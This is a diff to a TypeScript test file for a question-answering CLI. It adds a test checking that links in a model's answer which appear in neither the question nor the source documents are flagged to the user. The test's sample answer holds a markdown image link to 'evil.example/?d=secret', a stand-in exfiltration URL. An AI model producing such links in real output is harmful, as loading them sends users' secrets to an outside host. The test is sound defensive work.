@@ -4,7 +4,8 @@ import { loadConfig } from "../../src/shared/config/load-config.ts";
 import { indexSettingsOf } from "../../src/shared/index-settings.ts";
 import { openDesk, pretendWorker, rowsOf } from "./desk.ts";
 import type { Desk } from "./desk.ts";
-import { answered, failed, parked, refused, workByHand } from "./work-by-hand.ts";
+import { rendered } from "./export/rendered.ts";
+import { answered, failed, parked, RECORD, refused, workByHand } from "./work-by-hand.ts";
 
 const packageRoot = resolve(import.meta.dirname, "..", "..");
 let desk: Desk;
@@ -47,6 +48,41 @@ describe("ask --wait", () => {
         question: "How are brakes bled?",
         options: { route: "big", path_prefix: "allowed/corpus/" },
       },
+    });
+  });
+
+  test("prints links as they are written, and says which of them nobody but the model brought up", async () => {
+    const answer = "Run `ssh yard@hafenwerk.example`. ![x](https://evil.example/?d=secret) [1]";
+    const links = (["hafenwerk.example", "evil.example/?d=secret"] as const).map((text, at) => ({
+      kind: "link" as const,
+      text,
+      standsIn: at === 0 ? ("both" as const) : ("neither" as const),
+      flagged: at === 1,
+      span: null,
+    }));
+    const record = { ...RECORD, checks: { ...RECORD.checks, figures: links } };
+    const asked = desk.run("ask", "How?", "--wait");
+    await workByHand(desk.database, 1, () => answered(answer), record);
+    const { stdout, stderr } = await asked;
+    expect(stdout.split("\n")[0]).toBe(answer);
+    expect(stderr).toContain(
+      "Look before you follow what neither the question nor a document holds: evil.example/?d=secret\n",
+    );
+    expect(stderr).not.toContain("hafenwerk");
+    expect(await rowsOf(desk.database, "select answer from nightdesk.results")).toEqual([
+      { answer: expect.stringContaining(answer) },
+    ]);
+    const [batch] = await rowsOf(desk.database, "select name from nightdesk_data.batches");
+    const name = String(batch?.["name"]);
+    for (const format of ["native", "openai"]) {
+      const { stdout: exported } = await desk.run("batch", "export", name, "--format", format);
+      expect(exported).toContain(JSON.stringify(answer).slice(1, -1));
+    }
+    const { stdout: markdown } = await desk.run("batch", "export", name, "--format", "markdown");
+    const quoted = markdown.split("\n").filter((line) => line.startsWith(">"));
+    expect(rendered(quoted.join("\n"))).toEqual({
+      acting: [],
+      text: expect.stringContaining(answer),
     });
   });
 
